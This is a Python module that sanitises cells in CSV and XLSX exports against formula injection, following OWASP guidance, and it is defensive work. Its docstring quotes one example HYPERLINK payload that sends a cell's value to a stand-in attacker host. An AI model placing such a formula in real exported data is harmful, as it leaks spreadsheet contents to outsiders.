"""Cells that a spreadsheet must never read as a formula (CSV / formula injection).

A legal name such as ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` is data; opened in
Excel or LibreOffice from a CSV it would run as a formula, and written to an XLSX by
openpyxl (which treats any text starting with ``=`` as a formula) it would be a live one.

Every CSV and XLSX asocia writes goes through this module, following the OWASP guidance on
CSV injection:

- CSV: :func:`safe_cell` prefixes a single quote to text that starts with ``=``, ``+``,
  ``-``, ``@``, a tab or a carriage return (a spreadsheet shows the text and does not
  evaluate it), and turns a carriage return inside text into a line feed (so that the
  field is quoted and no new row starts inside it). Plain numbers written as text
  (``-12``, ``+5,3``) are left alone: a spreadsheet reads them as numbers, not formulas.
  Numbers, dates and ``None`` pass through.
- XLSX: :func:`xlsx_row` keeps the text exactly as stored and marks such cells as text
  (``t="s"``/inline string), so no formula cell is ever written.

The stored values are never altered: only what goes into the file.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any

#: First characters that make a spreadsheet evaluate a cell (OWASP).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def is_formula_like(value: object) -> bool:
    """True for text a spreadsheet would read as a formula."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_START)
        and not _NUMBER.fullmatch(value.strip())
    )


def safe_cell(value: Any) -> Any:
    """``value`` ready for a CSV cell: formula-like text gets a leading ``'``.

    A carriage return inside text becomes a line feed: a writer whose line ending is ``\n``
    does not quote a field for a lone CR, and a spreadsheet would start a new row there (and
    read what follows as a new cell, formula or not).
    """
    formula = is_formula_like(value)
    if isinstance(value, str) and "\r" in value:
        value = value.replace("\r\n", "\n").replace("\r", "\n")
    return "'" + value if formula else value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """:func:`safe_cell` over a row."""
    return [safe_cell(v) for v in values]


def safe_dict(row: Mapping[str, Any]) -> dict[str, Any]:
    """:func:`safe_cell` over the values of a ``csv.DictWriter`` row."""
    return {k: safe_cell(v) for k, v in row.items()}


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for ``sheet.append`` in which no cell is a formula.

    openpyxl turns any text starting with ``=`` into a formula; such text becomes a cell
    typed as text, with the same value. Other values pass through unchanged.
    """
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import Cell

    row: list[Any] = []
    for value in values:
        if isinstance(value, str) and value.startswith("="):
            cell = (
                WriteOnlyCell(sheet, value=value)
                if _write_only(sheet)
                else Cell(sheet, value=value)
            )
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row


def _write_only(sheet: Any) -> bool:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    return isinstance(sheet, WriteOnlyWorksheet)
